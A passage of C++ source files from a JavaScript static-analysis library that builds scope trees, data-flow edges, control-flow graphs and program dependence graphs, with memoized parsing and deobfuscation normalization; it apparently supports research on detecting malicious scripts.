  /// Uniform double in [0, 1).
  double uniform() noexcept {
    return static_cast<double>((*this)() >> 11) * 0x1.0p-53;
  }

  /// Uniform double in [lo, hi).
  double uniform(double lo, double hi) noexcept {
    return lo + (hi - lo) * uniform();
  }

  /// Standard normal via Box-Muller (cached second value discarded for
  /// simplicity; this is not a hot path).
  double normal() noexcept;

  /// Bernoulli trial with success probability p.
  bool chance(double p) noexcept { return uniform() < p; }

  /// Picks a uniformly random element from a non-empty vector.
  template <typename T>
  const T& pick(const std::vector<T>& v) noexcept {
    return v[below(v.size())];
  }

  /// In-place Fisher-Yates shuffle.
  template <typename T>
  void shuffle(std::vector<T>& v) noexcept {
    for (std::size_t i = v.size(); i > 1; --i) {
      using std::swap;
      swap(v[i - 1], v[below(i)]);
    }
  }

  /// Derives an independent child generator (for parallel determinism).
  Rng fork() noexcept { return Rng((*this)()); }

 private:
  static constexpr std::uint64_t rotl(std::uint64_t x, int k) noexcept {
    return (x << k) | (x >> (64 - k));
  }

  std::uint64_t state_[4] = {};
};

inline double Rng::normal() noexcept {
  // Box-Muller transform; uniform() never returns 0 exactly after the +tiny.
  double u1 = uniform();
  if (u1 < 1e-300) u1 = 1e-300;
  const double u2 = uniform();
  constexpr double two_pi = 6.283185307179586;
  // std::sqrt/std::cos are constexpr-unfriendly pre-C++26; fine at runtime.
  return __builtin_sqrt(-2.0 * __builtin_log(u1)) *
         __builtin_cos(two_pi * u2);
}

}  // namespace jsrev
