// Data-flow augmentation of the AST ("enhanced AST" in the paper).
//
// The paper adds a data-dependency edge between AST leaves that refer to the
// same variable (a statement using data a preceding statement produced).
// We compute this from the scope analysis: for every symbol with at least
// one write and a later read, each (write, subsequent-read) pair within the
// same symbol contributes a dependency edge between the identifier leaves.
//
// Path extraction consumes two artifacts:
//  * has_dependency(node): whether an identifier leaf participates in any
//    data-dependency edge — such leaves keep their concrete name in path
//    triples, all others are abstracted to `@var_<type>` indicators.
//  * edges(): the explicit edge list (used by PDG construction and tests).
#pragma once

#include <unordered_map>
#include <unordered_set>
#include <vector>

#include "analysis/scope.h"
#include "js/ast.h"

namespace jsrev::analysis {

struct DataFlowEdge {
  const js::Node* def = nullptr;  // identifier at the write site
  const js::Node* use = nullptr;  // identifier at a subsequent read
};

class DataFlowInfo {
 public:
  const std::vector<DataFlowEdge>& edges() const { return edges_; }

  /// True if this identifier node participates in any data-dependency edge.
  bool has_dependency(const js::Node* n) const {
    return canonical_.count(n) != 0;
  }

  /// Canonical per-script index of the symbol this flow-linked identifier
  /// refers to (0, 1, 2, ... in order of the symbol's first reference), or
  /// -1 if the node has no data dependency. All references to one symbol
  /// share an index, so flow-linked paths share a leaf value — and the
  /// value is invariant under consistent variable renaming (obfuscation).
  int canonical_index(const js::Node* n) const {
    const auto it = canonical_.find(n);
    return it == canonical_.end() ? -1 : it->second;
  }

  /// Number of identifier leaves with at least one dependency.
  std::size_t linked_count() const { return canonical_.size(); }

 private:
  friend DataFlowInfo analyze_dataflow(const js::Node* program,
                                       const ScopeInfo& scopes);
  std::vector<DataFlowEdge> edges_;
  std::unordered_map<const js::Node*, int> canonical_;
};

/// Builds the data-dependency edges for a finalized AST.
DataFlowInfo analyze_dataflow(const js::Node* program,
                              const ScopeInfo& scopes);

}  // namespace jsrev::analysis
