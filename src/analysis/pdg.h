// Program dependence graph: statement-level control + data dependencies.
//
// The JSTAP baseline extracts n-gram features from walks over the PDG. Our
// PDG has one node per statement-level AST node; edges are:
//  * control dependence — a statement nested under a branching/looping
//    construct depends on that construct's predicate statement;
//  * data dependence — statement S2 reads a variable that statement S1
//    wrote (projected up from the identifier-level def-use edges).
#pragma once

#include <cstddef>
#include <unordered_map>
#include <vector>

#include "analysis/dataflow.h"
#include "analysis/scope.h"
#include "js/ast.h"

namespace jsrev::analysis {

struct PdgNode {
  const js::Node* stmt = nullptr;
  std::vector<std::size_t> control_succs;
  std::vector<std::size_t> data_succs;
};

class Pdg {
 public:
  const std::vector<PdgNode>& nodes() const { return nodes_; }

  std::size_t node_for(const js::Node* stmt) const {
    const auto it = index_.find(stmt);
    return it == index_.end() ? npos : it->second;
  }

  std::size_t control_edge_count() const;
  std::size_t data_edge_count() const;

  static constexpr std::size_t npos = static_cast<std::size_t>(-1);

 private:
  friend Pdg build_pdg(const js::Node* program, const ScopeInfo& scopes,
                       const DataFlowInfo& dataflow);
  std::vector<PdgNode> nodes_;
  std::unordered_map<const js::Node*, std::size_t> index_;
};

/// Builds the program-wide PDG for a finalized AST.
Pdg build_pdg(const js::Node* program, const ScopeInfo& scopes,
              const DataFlowInfo& dataflow);

}  // namespace jsrev::analysis
