#include "analysis/script_analysis.h"

#include <stdexcept>
#include <utility>

#include "js/lexer.h"
#include "js/parser.h"
#include "util/timer.h"

namespace jsrev::analysis {

void ScriptAnalysis::ensure_parsed() const {
  std::call_once(parse_once_, [this] {
    Timer t;
    try {
      ast_ = js::parse(source_, limits_);
      parse_ok_ = true;
    } catch (const std::exception& e) {
      parse_error_ = e.what();
    }
    parse_ms_ = t.elapsed_ms();
  });
}

void ScriptAnalysis::require_ast() const {
  ensure_parsed();
  if (!parse_ok_) {
    throw std::logic_error(
        "ScriptAnalysis: derived analysis requested for an unparseable "
        "script (" +
        parse_error_ + ")");
  }
}

bool ScriptAnalysis::parse_failed() const {
  ensure_parsed();
  return !parse_ok_;
}

const std::string& ScriptAnalysis::parse_error() const {
  ensure_parsed();
  return parse_error_;
}

const js::Node* ScriptAnalysis::root() const {
  ensure_parsed();
  return parse_ok_ ? ast_.root : nullptr;
}

double ScriptAnalysis::parse_ms() const {
  ensure_parsed();
  return parse_ms_;
}

const std::vector<js::Token>* ScriptAnalysis::tokens() const {
  std::call_once(tokens_once_, [this] {
    try {
      js::Lexer lexer(source_, limits_);
      tokens_ = std::make_unique<std::vector<js::Token>>(lexer.tokenize());
    } catch (const std::exception&) {
      // Unlexable input: tokens() stays null, mirroring parse_failed().
    }
  });
  return tokens_.get();
}

const ScopeInfo& ScriptAnalysis::scopes() const {
  require_ast();
  std::call_once(scopes_once_, [this] {
    scopes_ = std::make_unique<ScopeInfo>(analyze_scopes(ast_.root));
  });
  return *scopes_;
}

const DataFlowInfo& ScriptAnalysis::dataflow() const {
  require_ast();
  std::call_once(dataflow_once_, [this] {
    dataflow_ =
        std::make_unique<DataFlowInfo>(analyze_dataflow(ast_.root, scopes()));
  });
  return *dataflow_;
}

const std::vector<Cfg>& ScriptAnalysis::cfgs() const {
  require_ast();
  std::call_once(cfgs_once_, [this] {
    cfgs_ = std::make_unique<std::vector<Cfg>>(build_all_cfgs(ast_.root));
  });
  return *cfgs_;
}

const Pdg& ScriptAnalysis::pdg() const {
  require_ast();
  std::call_once(pdg_once_, [this] {
    pdg_ = std::make_unique<Pdg>(build_pdg(ast_.root, scopes(), dataflow()));
  });
  return *pdg_;
}

}  // namespace jsrev::analysis
