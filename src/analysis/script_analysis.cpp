#include "analysis/script_analysis.h"

#include <stdexcept>
#include <utility>

#include "deob/deob.h"
#include "js/lexer.h"
#include "js/parser.h"
#include "js/printer.h"
#include "obs/metrics.h"
#include "obs/trace.h"
#include "util/timer.h"

namespace jsrev::analysis {

namespace {

// Memoization accounting: every artifact access counts as a hit or a miss
// (miss = this call computed it). The counts are pure function of the
// workload — identical at any thread width — so they live in the
// deterministic export; ratios show what the parse-once layer saves.
struct MemoCounters {
  obs::Counter* hit;
  obs::Counter* miss;
};

MemoCounters memo_counters(const char* artifact) {
  return MemoCounters{
      obs::metrics().counter("analysis.memo.hit", {{"artifact", artifact}}),
      obs::metrics().counter("analysis.memo.miss", {{"artifact", artifact}}),
  };
}

MemoCounters& parse_memo() {
  static MemoCounters c = memo_counters("parse");
  return c;
}
MemoCounters& tokens_memo() {
  static MemoCounters c = memo_counters("tokens");
  return c;
}
MemoCounters& scopes_memo() {
  static MemoCounters c = memo_counters("scopes");
  return c;
}
MemoCounters& dataflow_memo() {
  static MemoCounters c = memo_counters("dataflow");
  return c;
}
MemoCounters& cfgs_memo() {
  static MemoCounters c = memo_counters("cfgs");
  return c;
}
MemoCounters& pdg_memo() {
  static MemoCounters c = memo_counters("pdg");
  return c;
}

bool is_limit_error(const std::string& message) {
  return message.find("ParseLimits::") != std::string::npos;
}

}  // namespace

void ScriptAnalysis::ensure_parsed() const {
  bool computed = false;
  std::call_once(parse_once_, [this, &computed] {
    computed = true;
    obs::Span span("analysis.parse", "frontend");
    static obs::Counter* ok_counter =
        obs::metrics().counter("analysis.parse.ok");
    static obs::Counter* fail_counter =
        obs::metrics().counter("analysis.parse.failed");
    static obs::Counter* limit_counter =
        obs::metrics().counter("analysis.parse.limit_trips");
    Timer t;
    try {
      ast_ = js::parse(source_, limits_);
      parse_ok_ = true;
      ok_counter->add();
    } catch (const std::exception& e) {
      parse_error_ = e.what();
      fail_counter->add();
      if (is_limit_error(parse_error_)) limit_counter->add();
    }
    if (parse_ok_ && deobfuscate_) normalize();
    parse_ms_ = t.elapsed_ms();
  });
  MemoCounters& memo = parse_memo();
  (computed ? memo.miss : memo.hit)->add();
}

void ScriptAnalysis::normalize() const {
  obs::Span span("analysis.deobfuscate", "frontend");
  static obs::Counter* normalized_counter =
      obs::metrics().counter("analysis.deob.normalized");
  static obs::Counter* reparse_failed_counter =
      obs::metrics().counter("analysis.deob.reparse_failed");
  deob::deobfuscate_ast(ast_);
  std::string printed = js::print(ast_.root, js::PrintStyle::kPretty);
  try {
    // Re-parse the printed form so node line numbers index into the source
    // text consumers will see (lint excerpts, token-level detectors).
    ast_ = js::parse(printed, limits_);
    source_ = std::move(printed);
    normalized_counter->add();
  } catch (const std::exception&) {
    // Printed output should always round-trip; the one legitimate way here
    // is a ParseLimits bound tripping on the pretty-printed text. Restore
    // the original, un-normalized state (the original parse succeeded).
    ast_ = js::parse(source_, limits_);
    reparse_failed_counter->add();
  }
}

void ScriptAnalysis::require_ast() const {
  ensure_parsed();
  if (!parse_ok_) {
    throw std::logic_error(
        "ScriptAnalysis: derived analysis requested for an unparseable "
        "script (" +
        parse_error_ + ")");
  }
}

bool ScriptAnalysis::parse_failed() const {
  ensure_parsed();
  return !parse_ok_;
}

const std::string& ScriptAnalysis::parse_error() const {
  ensure_parsed();
  return parse_error_;
}

bool ScriptAnalysis::parse_limit_trip() const {
  ensure_parsed();
  return !parse_ok_ && is_limit_error(parse_error_);
}

const js::Node* ScriptAnalysis::root() const {
  ensure_parsed();
  return parse_ok_ ? ast_.root : nullptr;
}

double ScriptAnalysis::parse_ms() const {
  ensure_parsed();
  return parse_ms_;
}

double ScriptAnalysis::take_parse_cost() const {
  ensure_parsed();
  if (parse_cost_taken_.exchange(true, std::memory_order_relaxed)) {
    return 0.0;
  }
  return parse_ms_;
}

void ScriptAnalysis::enable_provenance() {
  if (provenance_ == nullptr) {
    provenance_ = std::make_unique<obs::VerdictProvenance>();
  }
}

const std::vector<js::Token>* ScriptAnalysis::tokens() const {
  // Token consumers must lex the same text the AST consumers analyze; under
  // deobfuscate the normalized source only exists once the parse ran.
  if (deobfuscate_) ensure_parsed();
  bool computed = false;
  std::call_once(tokens_once_, [this, &computed] {
    computed = true;
    obs::Span span("analysis.tokens", "frontend");
    try {
      js::Lexer lexer(source_, limits_);
      tokens_ = std::make_unique<std::vector<js::Token>>(lexer.tokenize());
    } catch (const std::exception&) {
      // Unlexable input: tokens() stays null, mirroring parse_failed().
    }
  });
  MemoCounters& memo = tokens_memo();
  (computed ? memo.miss : memo.hit)->add();
  return tokens_.get();
}

const ScopeInfo& ScriptAnalysis::scopes() const {
  require_ast();
  bool computed = false;
  std::call_once(scopes_once_, [this, &computed] {
    computed = true;
    obs::Span span("analysis.scopes", "analysis");
    scopes_ = std::make_unique<ScopeInfo>(analyze_scopes(ast_.root));
  });
  MemoCounters& memo = scopes_memo();
  (computed ? memo.miss : memo.hit)->add();
  return *scopes_;
}

const DataFlowInfo& ScriptAnalysis::dataflow() const {
  require_ast();
  bool computed = false;
  std::call_once(dataflow_once_, [this, &computed] {
    computed = true;
    obs::Span span("analysis.dataflow", "analysis");
    dataflow_ =
        std::make_unique<DataFlowInfo>(analyze_dataflow(ast_.root, scopes()));
  });
  MemoCounters& memo = dataflow_memo();
  (computed ? memo.miss : memo.hit)->add();
  return *dataflow_;
}

const std::vector<Cfg>& ScriptAnalysis::cfgs() const {
  require_ast();
  bool computed = false;
  std::call_once(cfgs_once_, [this, &computed] {
    computed = true;
    obs::Span span("analysis.cfgs", "analysis");
    cfgs_ = std::make_unique<std::vector<Cfg>>(build_all_cfgs(ast_.root));
  });
  MemoCounters& memo = cfgs_memo();
  (computed ? memo.miss : memo.hit)->add();
  return *cfgs_;
}

const Pdg& ScriptAnalysis::pdg() const {
  require_ast();
  bool computed = false;
  std::call_once(pdg_once_, [this, &computed] {
    computed = true;
    obs::Span span("analysis.pdg", "analysis");
    pdg_ = std::make_unique<Pdg>(build_pdg(ast_.root, scopes(), dataflow()));
  });
  MemoCounters& memo = pdg_memo();
  (computed ? memo.miss : memo.hit)->add();
  return *pdg_;
}

}  // namespace jsrev::analysis
