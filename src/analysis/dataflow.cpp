#include "analysis/dataflow.h"

#include <algorithm>
#include <cstdint>

namespace jsrev::analysis {

DataFlowInfo analyze_dataflow([[maybe_unused]] const js::Node* program,
                              const ScopeInfo& scopes) {
  DataFlowInfo info;

  struct LinkedSymbol {
    std::int32_t first_ref_id = 0;
    std::vector<const js::Node*> linked_refs;
  };
  std::vector<LinkedSymbol> linked_symbols;

  for (const auto& sym : scopes.symbols()) {
    if (sym->writes.empty()) continue;

    // References are recorded in preorder ≈ source order. For each write,
    // link it to every later read up to (and including) the read just before
    // the next write — the classic def-use chain on a straight-line
    // approximation. Conservative for branches, which matches the paper's
    // "statements that contain the same variable" formulation.
    const auto& refs = sym->references;
    std::unordered_set<const js::Node*> write_set(sym->writes.begin(),
                                                  sym->writes.end());
    std::unordered_set<const js::Node*> linked;
    for (std::size_t w = 0; w < refs.size(); ++w) {
      if (write_set.count(refs[w]) == 0) continue;
      for (std::size_t r = w + 1; r < refs.size(); ++r) {
        if (write_set.count(refs[r]) != 0) break;  // killed by the next def
        info.edges_.push_back({refs[w], refs[r]});
        linked.insert(refs[w]);
        linked.insert(refs[r]);
      }
    }
    if (linked.empty()) continue;

    LinkedSymbol ls;
    ls.first_ref_id = refs.front()->id;
    ls.linked_refs.assign(linked.begin(), linked.end());
    linked_symbols.push_back(std::move(ls));
  }

  // Canonical indices: symbols numbered by first-reference source position,
  // making the preserved leaf value invariant under consistent renaming.
  std::sort(linked_symbols.begin(), linked_symbols.end(),
            [](const LinkedSymbol& a, const LinkedSymbol& b) {
              return a.first_ref_id < b.first_ref_id;
            });
  for (std::size_t i = 0; i < linked_symbols.size(); ++i) {
    for (const js::Node* ref : linked_symbols[i].linked_refs) {
      info.canonical_.emplace(ref, static_cast<int>(i));
    }
  }
  return info;
}

}  // namespace jsrev::analysis
