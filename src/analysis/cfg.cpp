#include "analysis/cfg.h"

#include "js/visitor.h"

namespace jsrev::analysis {
namespace {

using js::Node;
using js::NodeKind;

}  // namespace

class CfgBuilder {
 public:
  Cfg run(const Node* body) {
    Cfg cfg;
    cfg_ = &cfg;

    cfg.entry_ = add_virtual(/*entry=*/true);
    cfg.exit_ = add_virtual(/*entry=*/false);

    std::vector<std::size_t> tails =
        emit_list(body->children, {cfg.entry_});
    link_all(tails, cfg.exit_);
    return cfg;
  }

 private:
  struct LoopContext {
    std::string label;                    // enclosing label, may be empty
    std::vector<std::size_t>* breaks;     // collect break sources
    std::vector<std::size_t>* continues;  // collect continue sources
  };

  std::size_t add_virtual(bool entry) {
    CfgNode n;
    n.is_entry = entry;
    n.is_exit = !entry;
    cfg_->nodes_.push_back(n);
    return cfg_->nodes_.size() - 1;
  }

  std::size_t add(const Node* stmt) {
    CfgNode n;
    n.stmt = stmt;
    cfg_->nodes_.push_back(n);
    const std::size_t id = cfg_->nodes_.size() - 1;
    cfg_->index_.emplace(stmt, id);
    return id;
  }

  void link(std::size_t from, std::size_t to) {
    cfg_->nodes_[from].succs.push_back(to);
    cfg_->nodes_[to].preds.push_back(from);
  }

  void link_all(const std::vector<std::size_t>& froms, std::size_t to) {
    for (const std::size_t f : froms) link(f, to);
  }

  // Emits a statement list; `preds` are the incoming edges. Returns the set
  // of nodes whose control continues past the list.
  template <typename StmtList>  // js::ChildList or std::vector<Node*>
  std::vector<std::size_t> emit_list(const StmtList& stmts,
                                     std::vector<std::size_t> preds) {
    for (const Node* s : stmts) {
      if (preds.empty()) break;  // unreachable tail
      preds = emit_stmt(s, preds, /*label=*/"");
    }
    return preds;
  }

  std::vector<std::size_t> emit_stmt(const Node* s,
                                     std::vector<std::size_t> preds,
                                     const std::string& label) {
    switch (s->kind) {
      case NodeKind::kBlockStatement:
        return emit_list(s->children, std::move(preds));

      case NodeKind::kIfStatement: {
        const std::size_t test = add(s);
        link_all(preds, test);
        std::vector<std::size_t> out =
            emit_stmt(s->children[1], {test}, "");
        if (s->children.size() > 2 && s->children[2] != nullptr) {
          auto other = emit_stmt(s->children[2], {test}, "");
          out.insert(out.end(), other.begin(), other.end());
        } else {
          out.push_back(test);  // fallthrough when the test is false
        }
        return out;
      }

      case NodeKind::kWhileStatement:
      case NodeKind::kDoWhileStatement: {
        const bool is_do = s->kind == NodeKind::kDoWhileStatement;
        const std::size_t test = add(s);
        std::vector<std::size_t> breaks, continues;
        loops_.push_back({label, &breaks, &continues});
        const Node* body = s->children[is_do ? 0 : 1];
        if (is_do) {
          auto body_out = emit_stmt(body, preds, "");
          link_all(body_out, test);
        } else {
          link_all(preds, test);
          auto body_out = emit_stmt(body, {test}, "");
          link_all(body_out, test);
        }
        loops_.pop_back();
        link_all(continues, test);
        std::vector<std::size_t> out = {test};
        out.insert(out.end(), breaks.begin(), breaks.end());
        return out;
      }

      case NodeKind::kForStatement: {
        // init is part of the loop header node.
        const std::size_t head = add(s);
        link_all(preds, head);
        std::vector<std::size_t> breaks, continues;
        loops_.push_back({label, &breaks, &continues});
        auto body_out = emit_stmt(s->children[3], {head}, "");
        loops_.pop_back();
        link_all(body_out, head);  // update+test back edge
        link_all(continues, head);
        std::vector<std::size_t> out = {head};
        out.insert(out.end(), breaks.begin(), breaks.end());
        return out;
      }

      case NodeKind::kForInStatement: {
        const std::size_t head = add(s);
        link_all(preds, head);
        std::vector<std::size_t> breaks, continues;
        loops_.push_back({label, &breaks, &continues});
        auto body_out = emit_stmt(s->children[2], {head}, "");
        loops_.pop_back();
        link_all(body_out, head);
        link_all(continues, head);
        std::vector<std::size_t> out = {head};
        out.insert(out.end(), breaks.begin(), breaks.end());
        return out;
      }

      case NodeKind::kSwitchStatement: {
        const std::size_t disc = add(s);
        link_all(preds, disc);
        std::vector<std::size_t> breaks, continues;
        loops_.push_back({label, &breaks, &continues});
        // Each case may be entered from the discriminant; fallthrough chains
        // case bodies together.
        std::vector<std::size_t> fallthrough;
        bool has_default = false;
        for (std::size_t i = 1; i < s->children.size(); ++i) {
          const Node* cs = s->children[i];
          if (cs->children[0] == nullptr) has_default = true;
          std::vector<std::size_t> in = fallthrough;
          in.push_back(disc);
          std::vector<Node*> body(cs->children.begin() + 1,
                                  cs->children.end());
          fallthrough = emit_list(body, std::move(in));
        }
        loops_.pop_back();
        std::vector<std::size_t> out = fallthrough;
        out.insert(out.end(), breaks.begin(), breaks.end());
        if (!has_default) out.push_back(disc);
        return out;
      }

      case NodeKind::kTryStatement: {
        const std::size_t head = add(s);
        link_all(preds, head);
        auto block_out = emit_stmt(s->children[0], {head}, "");
        std::vector<std::size_t> out = block_out;
        if (s->children[1] != nullptr) {
          // Any statement in the block may throw into the handler; we model
          // the coarse edge head -> handler.
          auto catch_out = emit_stmt(s->children[1]->children[1], {head}, "");
          out.insert(out.end(), catch_out.begin(), catch_out.end());
        }
        if (s->children[2] != nullptr) {
          out = emit_stmt(s->children[2], std::move(out), "");
        }
        return out;
      }

      case NodeKind::kLabeledStatement:
        return emit_stmt(s->children[0], std::move(preds), s->str);

      case NodeKind::kBreakStatement: {
        const std::size_t n = add(s);
        link_all(preds, n);
        for (auto it = loops_.rbegin(); it != loops_.rend(); ++it) {
          if (s->str.empty() || it->label == s->str) {
            it->breaks->push_back(n);
            return {};
          }
        }
        link(n, cfg_->exit_);  // stray break: treat as function exit
        return {};
      }

      case NodeKind::kContinueStatement: {
        const std::size_t n = add(s);
        link_all(preds, n);
        for (auto it = loops_.rbegin(); it != loops_.rend(); ++it) {
          if (it->continues == nullptr) continue;
          if (s->str.empty() || it->label == s->str) {
            it->continues->push_back(n);
            return {};
          }
        }
        link(n, cfg_->exit_);
        return {};
      }

      case NodeKind::kReturnStatement:
      case NodeKind::kThrowStatement: {
        const std::size_t n = add(s);
        link_all(preds, n);
        link(n, cfg_->exit_);
        return {};
      }

      case NodeKind::kWithStatement: {
        const std::size_t n = add(s);
        link_all(preds, n);
        return emit_stmt(s->children[1], {n}, "");
      }

      default: {
        // Straight-line statement (expression, declaration, empty, ...).
        const std::size_t n = add(s);
        link_all(preds, n);
        return {n};
      }
    }
  }

  Cfg* cfg_ = nullptr;
  std::vector<LoopContext> loops_;
};

Cfg build_cfg(const js::Node* body) { return CfgBuilder().run(body); }

std::vector<Cfg> build_all_cfgs(const js::Node* program) {
  std::vector<Cfg> cfgs;
  cfgs.push_back(build_cfg(program));
  js::walk(program, [&cfgs](const js::Node* n) {
    if (n->is_function()) {
      cfgs.push_back(build_cfg(n->children.back()));
    }
    return true;
  });
  return cfgs;
}

}  // namespace jsrev::analysis
