// Lexical scope construction and identifier resolution.
//
// Builds the scope tree for a program (global scope, one scope per function,
// plus catch-clause scopes), hoists `var` and function declarations to the
// enclosing function scope, treats let/const as function-scoped for
// simplicity (block scoping does not affect any downstream analysis we run),
// and resolves every Identifier *reference* to a Symbol.
//
// Identifiers in non-reference positions (member property names `a.b`,
// object literal keys, labels) are deliberately not resolved.
#pragma once

#include <memory>
#include <string>
#include <unordered_map>
#include <vector>

#include "js/ast.h"

namespace jsrev::analysis {

struct Scope;

/// A declared binding (var/let/const/function name/parameter/catch param),
/// or a synthesized global for unresolved references.
struct Symbol {
  std::string name;
  Scope* scope = nullptr;
  bool is_parameter = false;
  bool is_function = false;   // bound by a function declaration/expression
  bool is_global_implicit = false;  // referenced but never declared

  // Function nodes whose name (`Node::str`, no Identifier node) binds this
  // symbol: function declarations, and the self-binding of named function
  // expressions. Usually one node; duplicate same-scope declarations all
  // land here. Empty for non-function symbols.
  std::vector<const js::Node*> fn_nodes;

  // Identifier nodes referring to this symbol, in preorder (≈source) order.
  // Includes the declaring occurrence.
  std::vector<const js::Node*> references;
  // Subset of `references` that are write sites (declarator init,
  // assignment target, update target, for-in target).
  std::vector<const js::Node*> writes;
};

struct Scope {
  const js::Node* owner = nullptr;  // Program or function node
  Scope* parent = nullptr;
  std::vector<Scope*> children;
  std::unordered_map<std::string, Symbol*> bindings;
};

/// Result of scope analysis over one AST. Owns all scopes and symbols.
class ScopeInfo {
 public:
  /// Resolved symbol for an identifier reference node, nullptr if the node
  /// is not a reference (property name, key, label) or not an Identifier.
  const Symbol* symbol_for(const js::Node* identifier) const {
    const auto it = resolution_.find(identifier);
    return it == resolution_.end() ? nullptr : it->second;
  }

  const Scope* global_scope() const { return scopes_.empty() ? nullptr : scopes_.front().get(); }

  /// All symbols, including implicit globals, in creation order.
  const std::vector<std::unique_ptr<Symbol>>& symbols() const {
    return symbols_;
  }

 private:
  friend class ScopeBuilder;
  std::vector<std::unique_ptr<Scope>> scopes_;
  std::vector<std::unique_ptr<Symbol>> symbols_;
  std::unordered_map<const js::Node*, Symbol*> resolution_;
};

/// Runs scope analysis. The AST must be finalized (parents/ids assigned).
ScopeInfo analyze_scopes(const js::Node* program);

}  // namespace jsrev::analysis
