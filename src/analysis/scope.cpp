#include "analysis/scope.h"

#include <functional>

#include "js/visitor.h"

namespace jsrev::analysis {
namespace {

using js::Node;
using js::NodeKind;

}  // namespace

class ScopeBuilder {
 public:
  ScopeInfo run(const Node* program) {
    ScopeInfo info;
    info_ = &info;

    Scope* global = new_scope(program, nullptr);
    hoist(program, global);
    resolve(program, global);

    // Resolution happens in preorder, which matches source order for the
    // reference lists.
    return std::move(*info_);
  }

 private:
  Scope* new_scope(const Node* owner, Scope* parent) {
    info_->scopes_.push_back(std::make_unique<Scope>());
    Scope* s = info_->scopes_.back().get();
    s->owner = owner;
    s->parent = parent;
    if (parent != nullptr) parent->children.push_back(s);
    return s;
  }

  Symbol* declare(Scope* scope, const std::string& name) {
    const auto it = scope->bindings.find(name);
    if (it != scope->bindings.end()) return it->second;
    info_->symbols_.push_back(std::make_unique<Symbol>());
    Symbol* sym = info_->symbols_.back().get();
    sym->name = name;
    sym->scope = scope;
    scope->bindings.emplace(name, sym);
    return sym;
  }

  // Pass 1: collect declarations visible in `scope`. Does not descend into
  // nested functions (their bodies get their own pass when resolved).
  // Function declarations inside blocks (including catch bodies) hoist to
  // the enclosing function scope, matching the ES5 Annex B web reality.
  void hoist(const Node* n, Scope* scope) {
    if (n == nullptr) return;
    switch (n->kind) {
      case NodeKind::kFunctionDeclaration: {
        Symbol* sym = declare(scope, n->str);
        sym->is_function = true;
        sym->fn_nodes.push_back(n);
        return;  // body handled when resolving the function
      }
      case NodeKind::kFunctionExpression:
      case NodeKind::kArrowFunctionExpression:
        return;
      case NodeKind::kVariableDeclaration:
        for (const Node* d : n->children) {
          declare(scope, d->children[0]->str);
          // Initializers may contain nested declarations? No — only
          // expressions; but they can contain function expressions which we
          // skip anyway. Recurse for completeness of var-in-init edge cases.
          if (d->children.size() > 1) hoist(d->children[1], scope);
        }
        return;
      default:
        break;
    }
    for (const Node* child : n->children) {
      hoist(child, scope);
    }
  }

  void add_reference(Symbol* sym, const Node* id, bool is_write) {
    sym->references.push_back(id);
    if (is_write) sym->writes.push_back(id);
    info_->resolution_.emplace(id, sym);
  }

  Symbol* lookup(Scope* scope, const std::string& name) {
    for (Scope* s = scope; s != nullptr; s = s->parent) {
      const auto it = s->bindings.find(name);
      if (it != s->bindings.end()) return it->second;
    }
    // Implicit global (browser API, undeclared write, ...).
    Scope* global = scope;
    while (global->parent != nullptr) global = global->parent;
    Symbol* sym = declare(global, name);
    sym->is_global_implicit = true;
    return sym;
  }

  void enter_function(const Node* fn, Scope* parent) {
    Scope* scope = new_scope(fn, parent);
    // Parameters (all children except the trailing body block).
    for (std::size_t i = 0; i + 1 < fn->children.size(); ++i) {
      Symbol* p = declare(scope, fn->children[i]->str);
      p->is_parameter = true;
      add_reference(p, fn->children[i], /*is_write=*/true);
    }
    // Named function expressions bind their own name inside the body.
    if (fn->kind == NodeKind::kFunctionExpression && !fn->str.empty()) {
      Symbol* sym = declare(scope, fn->str);
      sym->is_function = true;
      sym->fn_nodes.push_back(fn);
    }
    const Node* body = fn->children.back();
    hoist(body, scope);
    resolve(body, scope);
  }

  // Pass 2: resolve identifier references. `n` is visited with knowledge of
  // whether it sits in a write position.
  void resolve(const Node* n, Scope* scope, bool is_write = false) {
    if (n == nullptr) return;
    switch (n->kind) {
      case NodeKind::kIdentifier: {
        add_reference(lookup(scope, n->str), n, is_write);
        return;
      }
      case NodeKind::kFunctionDeclaration:
        // The name was hoisted in pass 1; function declarations keep the
        // name in `str` (no Identifier node), so there is no declaring
        // reference node to record.
        enter_function(n, scope);
        return;
      case NodeKind::kFunctionExpression:
      case NodeKind::kArrowFunctionExpression:
        enter_function(n, scope);
        return;
      case NodeKind::kVariableDeclaration:
        for (const Node* d : n->children) {
          const Node* id = d->children[0];
          const auto it = scope->bindings.find(id->str);
          Symbol* sym = it != scope->bindings.end() ? it->second
                                                    : lookup(scope, id->str);
          const bool has_init = d->children.size() > 1 && d->children[1];
          add_reference(sym, id, /*is_write=*/has_init);
          if (has_init) resolve(d->children[1], scope);
        }
        return;
      case NodeKind::kAssignmentExpression:
        resolve(n->children[0], scope, /*is_write=*/true);
        resolve(n->children[1], scope);
        return;
      case NodeKind::kUpdateExpression:
        resolve(n->children[0], scope, /*is_write=*/true);
        return;
      case NodeKind::kForInStatement:
        if (n->children[0]->kind == NodeKind::kVariableDeclaration) {
          const Node* d = n->children[0]->children[0];
          Symbol* sym = lookup(scope, d->children[0]->str);
          add_reference(sym, d->children[0], /*is_write=*/true);
        } else {
          resolve(n->children[0], scope, /*is_write=*/true);
        }
        resolve(n->children[1], scope);
        resolve(n->children[2], scope);
        return;
      case NodeKind::kMemberExpression:
        resolve(n->children[0], scope);
        // Non-computed property names are not variable references.
        if (n->has_flag(Node::kComputed)) resolve(n->children[1], scope);
        return;
      case NodeKind::kProperty:
        // Keys are not references unless computed.
        if (n->has_flag(Node::kComputed)) resolve(n->children[0], scope);
        resolve(n->children[1], scope);
        return;
      case NodeKind::kCatchClause: {
        // ES5 12.14: the catch param is a fresh binding in its own scope.
        // It is a parameter like any function param — written by the throw
        // machinery, not by user code.
        Scope* catch_scope = new_scope(n, scope);
        Symbol* param = declare(catch_scope, n->children[0]->str);
        param->is_parameter = true;
        add_reference(param, n->children[0], /*is_write=*/true);
        resolve(n->children[1], catch_scope);
        return;
      }
      case NodeKind::kLabeledStatement:
        resolve(n->children[0], scope);
        return;
      default:
        for (const Node* child : n->children) resolve(child, scope);
        return;
    }
  }

  ScopeInfo* info_ = nullptr;
};

ScopeInfo analyze_scopes(const js::Node* program) {
  return ScopeBuilder().run(program);
}

}  // namespace jsrev::analysis
