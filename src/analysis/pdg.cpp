#include "analysis/pdg.h"

#include <algorithm>

#include "js/visitor.h"

namespace jsrev::analysis {
namespace {

using js::Node;
using js::NodeKind;

bool is_statement_kind(NodeKind k) {
  switch (k) {
    case NodeKind::kExpressionStatement:
    case NodeKind::kIfStatement:
